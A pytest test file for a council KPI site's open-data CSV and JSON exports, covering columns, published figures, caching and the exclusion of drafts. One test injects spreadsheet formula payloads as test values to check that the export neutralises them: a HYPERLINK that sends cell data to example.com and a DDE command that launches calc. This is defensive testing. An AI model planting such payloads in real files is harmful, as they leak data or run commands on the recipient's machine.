"""Open data (issue 17, section 5): the published quarters as CSV and JSON files anyone may
download, one per quarter and one per indicator, read back from their real bytes. Thurrock's
demo publishes Quarters 1 to 3 of 2016/17 (tests/datasets.py DEMO_PUBLISHED)."""

import csv
import io
import json
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import pandas as pd
import pytest

from kpis.models import Indicator, Portfolio, QuarterPublication, Reading
from reports.forecast_data import forecasts_for
from reports.open_data import COLUMNS, LICENCE, NAMES, decimal_text
from reports.scorecards import scorecard_for
from tests.people import make_user

QUARTER_CSV = "/open-data/2016/q3/indicators.csv"
QUARTER_JSON = "/open-data/2016/q3/indicators.json"


def csv_rows(response) -> list[dict]:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8"), newline="")))


def json_of(response) -> dict:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == "application/json; charset=utf-8"
    return json.loads(response.content.decode("utf-8"))


def test_the_quarter_csv_reads_back_with_its_columns_in_order(client, thurrock):
    frame = pd.read_csv(io.BytesIO(client.get(QUARTER_CSV).content), encoding="utf-8", dtype=str,
                        keep_default_na=False)
    assert list(frame.columns) == NAMES
    assert NAMES[:2] == ["code", "title"] and NAMES[-4:] == ["direction_since_last_year", "published_on",
                                                               "spc_type", "forecast"]
    assert len(frame) == len(scorecard_for(2016, 3).rows) == 49
    assert set(frame["year"]) == {"2016"} and set(frame["quarter"]) == {"3"}
    assert set(frame["published_on"]) == {"2017-03-14"}  # the committee date the demo publishes Q3 on
    assert set(frame["spc_type"]) == {""}  # the demo's nine months are under the MDC rules' 13 points: no judgement


def test_the_spc_type_is_the_quarters_last_point_as_the_engine_judges_it(client, thurrock, settings):
    """One fact: the type the XmR engine gives the last point up to the quarter's end (the ptd rules
    judge the demo's nine months; the MDC rules, the default, need 13)."""
    from reports.spc_series import spc_results

    settings.KPI_SPC_RULES = "ptd"
    judged = {series.indicator.code: result for series, result in spc_results(until=date(2016, 12, 1))}
    rows = {row["code"]: row for row in csv_rows(client.get(QUARTER_CSV))}
    expected = {code: (result.types[-1].value if result.months and result.months[-1] >= date(2016, 10, 1)
                       and result.types[-1] else "") for code, result in judged.items() if code in rows}
    assert {code: rows[code]["spc_type"] for code in expected} == expected
    assert rows["RENT"]["spc_type"] == "special_cause_improvement"  # as the indicator page shows it under ptd


def test_every_row_is_what_the_scorecard_shows(client, thurrock):
    shown = {row.code: row for row in scorecard_for(2016, 3).rows}
    rows = csv_rows(client.get(QUARTER_CSV))
    assert [row["code"] for row in rows] == list(shown)
    for row in rows:
        card = shown[row["code"]]
        figure, target = card.result.figure, card.result.target
        assert row["figure"] == ("" if figure is None else decimal_text(figure, card.decimals)), row["code"]
        assert (Decimal(row["target"]) if row["target"] else None) == target, row["code"]
        assert row["status"] == (card.status.value or ""), row["code"]
        assert row["status_basis"] == (card.status.basis or ""), row["code"]
        assert row["direction_since_last_year"] == (card.dot_year.value or ""), row["code"]
        assert row["direction_since_last_quarter"] == (card.dot_quarter.value or ""), row["code"]
        assert row["figure_period"] == str(card.result.period), row["code"]


def test_the_forecast_is_the_scorecards_year_end_projection_from_published_figures(client, thurrock):
    projected = {Indicator.objects.get(pk=key).code: forecast.projected
                 for key, forecast in forecasts_for(2016, 3).items()}
    rows = csv_rows(client.get(QUARTER_CSV))
    for row in rows:
        expected = projected.get(row["code"])
        assert row["forecast"] == ("" if expected is None else decimal_text(expected, int(row["decimals"]))), row
    assert sum(bool(row["forecast"]) for row in rows) > 20  # most of the demo's KPIs have a year target


def test_a_demo_row_as_the_council_printed_it(client, thurrock):
    """% Council Tax collected, December 2016: 80.04, the seed's Q3 figure (a "latest" indicator)."""
    [ctax] = [row for row in csv_rows(client.get(QUARTER_CSV)) if row["code"] == "CTAX"]
    assert ctax["figure"] == "80.04" and ctax["unit"] == "percent" and ctax["decimals"] == "2"
    assert ctax["polarity"] == "up" and ctax["category"] == "kpi" and ctax["figure_period"] == "2016-Q3"
    assert ctax["status"] in ("achieved", "failed") and ctax["title"] == "% Council Tax collected"


def test_a_status_the_rules_cannot_decide_is_the_councils_printed_one_and_says_so(client, thurrock):
    """Two-year-olds' places: the target has no number, so the rules give no status; the council
    printed "Achieved", and the scorecard shows it marked as published."""
    [twoa] = [row for row in csv_rows(client.get(QUARTER_CSV)) if row["code"] == "TWOA"]
    assert (twoa["target"], twoa["status"], twoa["status_basis"]) == ("", "achieved", "as_published")


def test_the_quarter_json_has_the_same_rows_as_plain_json(client, thurrock):
    document = json_of(client.get(QUARTER_JSON))
    assert set(document) == {"title", "licence", "licence_url", "columns", "rows"}
    assert document["licence"] == LICENCE == "Open Government Licence v3.0"
    assert document["columns"] == NAMES and all(list(row) == NAMES for row in document["rows"])
    by_code = {row["code"]: row for row in document["rows"]}
    from_csv = {row["code"]: row for row in csv_rows(client.get(QUARTER_CSV))}
    assert list(by_code) == list(from_csv)
    ctax = by_code["CTAX"]
    assert ctax["figure"] == 80.04 and isinstance(ctax["year"], int) and ctax["published_on"] == "2017-03-14"
    assert ctax["spc_type"] is None
    for code, row in by_code.items():  # numbers are numbers, the same as the CSV's, and nothing else differs
        for name in NAMES:
            text = from_csv[code][name]
            if name in ("figure", "target", "year", "quarter", "decimals", "forecast"):
                assert (row[name] is None and text == "") or Decimal(str(row[name])) == Decimal(text), (code, name)
            else:
                assert (row[name] or "") == text, (code, name)


def test_the_files_say_their_name_and_may_be_kept_and_checked(client, thurrock):
    response = client.get(QUARTER_CSV)
    assert response["Content-Disposition"] == 'attachment; filename="thurrock-kpi-2016-Q3.csv"'
    assert client.get(QUARTER_JSON)["Content-Disposition"] == 'inline; filename="thurrock-kpi-2016-Q3.json"'
    assert client.get("/open-data/indicators/CTAX.csv")["Content-Disposition"] == (
        'attachment; filename="thurrock-kpi-CTAX.csv"')
    assert set(response["Cache-Control"].split(", ")) == {"public", "no-cache"}
    again = client.get(QUARTER_CSV, headers={"If-None-Match": response["ETag"]})
    assert again.status_code == 304 and not again.content
    # A change the public reads gives the files a new ETag: the copy is no longer current.
    ctax = Indicator.objects.get(code="CTAX")
    ctax.title = "% of Council Tax collected"
    ctax.save()
    changed = client.get(QUARTER_CSV, headers={"If-None-Match": response["ETag"]})
    assert changed.status_code == 200 and "% of Council Tax collected" in changed.content.decode()


@pytest.mark.parametrize("path", [
    "/open-data/2016/q4/indicators.csv",  # no figure yet
    "/open-data/2016/q4/indicators.json",
    "/open-data/2015/q3/indicators.csv",  # a year the demo holds no quarter of
    "/open-data/1900/q1/indicators.csv",  # before the years the product keeps
    "/open-data/2016/q5/indicators.json",
    "/open-data/indicators/NOSUCH.csv",
    "/open-data/indicators/NOSUCH.json",
])
def test_what_is_not_published_is_not_found(client, thurrock, path):
    assert client.get(path).status_code == 404


def test_a_quarter_with_approved_figures_is_not_open_data_until_published(client, thurrock):
    """Quarter 3 withdrawn: approved figures, but no longer published. Its files go, and the
    indicator's file stops at Quarter 2."""
    publication = QuarterPublication.objects.get(year=2016, quarter=3)
    publication.published_on = None
    publication.save()
    assert Reading.objects.filter(month__gte=date(2016, 10, 1), state=Reading.State.APPROVED).exists()
    for path in (QUARTER_CSV, QUARTER_JSON):
        assert client.get(path).status_code == 404
    rows = csv_rows(client.get("/open-data/indicators/HOMES.csv"))
    assert [(row["year"], row["quarter"]) for row in rows] == [("2016", "1"), ("2016", "2")]
    assert "/open-data/2016/q3/" not in client.get("/open-data/").content.decode()


@pytest.mark.parametrize("who", [None, "performance"])
def test_a_draft_never_reaches_a_file_whoever_asks(client, thurrock, who):
    """December's rent collected set back to a draft of 98.12: the files keep the published figure,
    for the performance team too, who see the draft on their own pages."""
    rent = Reading.objects.get(indicator__code="RENT", month=date(2016, 12, 1))
    rent.value, rent.state = Decimal("98.12"), Reading.State.DRAFT
    rent.save()
    # What the public scorecard shows now: Q3 on the figures still approved, without December's draft.
    published_figure = next(row.result.figure for row in scorecard_for(2016, 3).rows if row.code == "RENT")
    assert published_figure != Decimal("98.12")
    Reading.objects.create(indicator=rent.indicator, month=date(2017, 1, 1), value=Decimal("42.42"),
                           state=Reading.State.SUBMITTED)
    if who:
        client.force_login(make_user("pat", who))
    quarter = {row["code"]: row for row in csv_rows(client.get(QUARTER_CSV))}
    assert quarter["RENT"]["figure"] != "98.12"
    assert quarter["RENT"]["figure"] == ("" if published_figure is None else decimal_text(published_figure, 2))
    assert "98.12" not in client.get(QUARTER_JSON).content.decode()
    indicator = client.get("/open-data/indicators/RENT.json")
    assert "98.12" not in indicator.content.decode() and "42.42" not in indicator.content.decode()
    assert [(row["year"], row["quarter"]) for row in json_of(indicator)["rows"]] == [(2016, 1), (2016, 2), (2016, 3)]


@pytest.mark.parametrize("code", ["HOMES", "ADM"])  # ADM has a year-end forecast, HOMES none (no year target)
def test_the_indicator_file_holds_each_published_quarter_as_its_quarter_file_has_it(client, thurrock, code):
    rows = csv_rows(client.get(f"/open-data/indicators/{code}.csv"))
    assert [(row["year"], row["quarter"], row["published_on"]) for row in rows] == [
        ("2016", "1", "2016-09-20"), ("2016", "2", "2016-11-22"), ("2016", "3", "2017-03-14")]
    for row in rows:
        [same] = [line for line in csv_rows(client.get(f"/open-data/2016/q{row['quarter']}/indicators.csv"))
                  if line["code"] == code]
        assert row == same
    assert bool(rows[-1]["forecast"]) == (code == "ADM")
    document = json_of(client.get(f"/open-data/indicators/{code}.json"))
    assert document["columns"] == NAMES and len(document["rows"]) == 3
    assert f"({code})" in document["title"]


def test_a_new_indicator_is_in_each_published_quarter_without_a_figure(client, thurrock):
    """As every quarter's scorecard lists it: no figure, no status, never a made-up one."""
    Indicator.objects.create(code="NEW", title="A new indicator")
    rows = csv_rows(client.get("/open-data/indicators/NEW.csv"))
    assert [(row["quarter"], row["figure"], row["status"]) for row in rows] == [("1", "", ""), ("2", "", ""),
                                                                                ("3", "", "")]
    assert "NEW" in {row["code"] for row in csv_rows(client.get(QUARTER_CSV))}


def test_with_no_quarter_published_an_indicator_file_is_its_header_alone(client, thurrock):
    for publication in QuarterPublication.objects.all():
        publication.published_on = None
        publication.save()
    response = client.get("/open-data/indicators/HOMES.csv")
    assert response.content.decode() == ",".join(NAMES) + "\n"
    assert json_of(client.get("/open-data/indicators/HOMES.json"))["rows"] == []
    assert "No quarter has been published yet" in client.get("/open-data/").content.decode()


def test_text_a_spreadsheet_would_run_is_kept_as_text(client, thurrock):
    """A title and a portfolio beginning with "=" and "+": an apostrophe before them in the CSV,
    which no spreadsheet runs; the JSON keeps them as they are, and the numbers stay numbers."""
    homes = Indicator.objects.get(code="HOMES")
    homes.title = '=HYPERLINK("http://example.com/?"&A1,"homes")'
    homes.portfolio = Portfolio.objects.create(name="+cmd|' /C calc'!A0", holder="@SUM(1+1)")
    homes.save()
    for path in (QUARTER_CSV, "/open-data/indicators/HOMES.csv"):
        [row] = [row for row in csv_rows(client.get(path)) if row["code"] == "HOMES"][-1:]
        assert row["title"] == '\'=HYPERLINK("http://example.com/?"&A1,"homes")'
        assert row["portfolio"] == "'+cmd|' /C calc'!A0"
        assert not row["figure"].startswith("'")
    [row] = [row for row in json_of(client.get(QUARTER_JSON))["rows"] if row["code"] == "HOMES"]
    assert row["title"] == '=HYPERLINK("http://example.com/?"&A1,"homes")' and row["portfolio"].startswith("+")


@pytest.mark.parametrize("value, decimals, text", [
    (Decimal("80.04"), 2, "80.04"),
    (Decimal("80"), 2, "80.00"),  # to the indicator's decimals
    (Decimal("487.500000"), 0, "487.5"),  # a profiled target keeps its half
    (Decimal("76.514417"), 2, "76.514417"),  # never rounded away
    (Decimal("-3.5"), 1, "-3.5"),
    (Decimal("1E+3"), 0, "1000"),  # never in exponent form
    (Decimal("0E-6"), 1, "0.0"),
])
def test_numbers_are_written_in_full(value, decimals, text):
    assert decimal_text(value, decimals) == text


def test_the_page_lists_the_quarters_and_indicators_with_their_files(client, thurrock):
    page = client.get("/open-data/").content.decode()
    assert "<h1 class=\"govuk-heading-l\">Open data</h1>" in page
    assert "Open Government Licence v3.0" in page and "<img" not in page
    for number, day in ((1, "20 September 2016"), (2, "22 November 2016"), (3, "14 March 2017")):
        assert f'href="/open-data/2016/q{number}/indicators.csv"' in page
        assert f'href="/open-data/2016/q{number}/indicators.json"' in page
        assert day in page
    assert "2016/q4" not in page  # not published
    for code in Indicator.objects.filter(active=True).values_list("code", flat=True):
        assert f'href="/open-data/indicators/{code}.csv"' in page and f'href="/open-data/indicators/{code}.json"' in page
    for name in NAMES:
        assert f"<code>{name}</code>" in page
    assert "The SPC type of the quarter" in page


def test_the_footer_and_a_published_quarters_summary_link_it(client, thurrock):
    assert '<a class="govuk-footer__link" href="/open-data/">Open data</a>' in client.get("/").content.decode()
    summary = client.get("/scorecards/2016/q3/").content.decode()
    assert f'href="{QUARTER_CSV}"' in summary and f'href="{QUARTER_JSON}"' in summary
    in_progress = client.get("/scorecards/2016/q4/").content.decode()
    assert "/open-data/2016/q4/" not in in_progress and 'href="/open-data/"' in in_progress


def test_the_readmes_schema_is_the_files_columns_in_order_with_their_kinds():
    """The README documents the schema (the issue asks for it there); it may not drift from COLUMNS."""
    readme = (Path(__file__).resolve().parents[2] / "README.md").read_text()
    table = readme[readme.index("One row per indicator and quarter, in this order:"):]
    table = table[:table.index("\n## ")]
    documented = []
    for names, kind in re.findall(r"^\| (`[^|]+`) \| (\w+) \|", table, flags=re.MULTILINE):
        documented += [(name, kind) for name in re.findall(r"`(\w+)`", names)]
    assert documented == [(column.name, column.kind) for column in COLUMNS]
